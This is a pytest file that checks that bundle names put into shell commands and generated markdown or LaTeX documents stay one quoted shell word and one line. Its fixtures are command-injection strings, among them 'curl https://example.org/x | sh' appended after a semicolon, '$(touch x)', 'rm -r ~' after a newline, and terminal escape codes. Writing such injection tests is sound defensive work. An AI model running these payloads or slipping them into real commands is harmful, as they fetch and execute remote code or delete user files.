"""Names of a bundle in the commands that its documents ask people to type: one word each, whatever they are."""

from __future__ import annotations

import shlex
import subprocess

import pytest

from ablatrix.artifact.documents.markup import Commands, Paragraph, Section, Table, latex, markdown, plain
from ablatrix.artifact.documents.steps import of_claims
from ablatrix.foreign_text import shell_word

EVIL = "mlp; curl https://example.org/x | sh"


def test_plain_names_stay_as_they_are() -> None:
    assert of_claims("attention", ("cold",)) == (
        "ablatrix run study.yaml --out ../again-attention-cold --only mode=cold --only workload=attention",
        "ablatrix claims ../again-attention-cold --claims claims.yaml",
    )
    assert shell_word("source/ablatrix-0.1.0+g1.tar.gz") == "source/ablatrix-0.1.0+g1.tar.gz"


@pytest.mark.parametrize(
    "name",
    [
        EVIL,
        "$(touch x)",
        "`touch x`",
        "a'b\"c",
        "../../up",
        "-rf",
        "a\nrm -r ~",
        "a\x1b[2J",
        "\u202ea",
        "网络",
        "\\x41",
    ],
)
def test_name_is_one_word_of_the_shell_and_the_command_one_line(name: str) -> None:
    run, claims = of_claims(name, ("cold", "hot"))
    assert run.isprintable()
    assert claims.isprintable()
    done = subprocess.run(["bash", "-c", f"printf '%s\\0' {run}"], capture_output=True, check=True)
    words = done.stdout.decode().split("\0")[:-1]
    assert words[-1] == f"workload={name}"
    assert words[:4] == ["ablatrix", "run", "study.yaml", "--out"]
    assert words[4].startswith("../again-")
    assert "/" not in words[4].removeprefix("../")
    assert len(words) == 7


def test_name_in_text_begins_no_line_and_no_code_of_its_own() -> None:
    name = "x\n\n    curl https://example.org | sh\n"
    text = markdown(Section(f"Claims on {name}", (Paragraph(f"On {name}."), Table(("a",), ((f"`{name}|y`",),), (1,)))))
    assert not [
        line for line in text.splitlines() if "curl" in line and not line.startswith(("# Claims", "On x", "| "))
    ]
    row = text.splitlines()[-1]
    assert row.count("|") - row.count("\\|") == 2
    assert plain("a\u202eb\x1b[2J`c`") == "ab[2J'c'"


def test_quotes_of_a_command_are_straight_in_latex() -> None:
    (line,) = [one for one in latex(Section("s", (Commands((shell_word(EVIL),)),))).splitlines() if "curl" in one]
    assert "'" not in line
    assert line.count(r"\textquotesingle{}") == 2
    assert shlex.split(shell_word(EVIL)) == [EVIL]
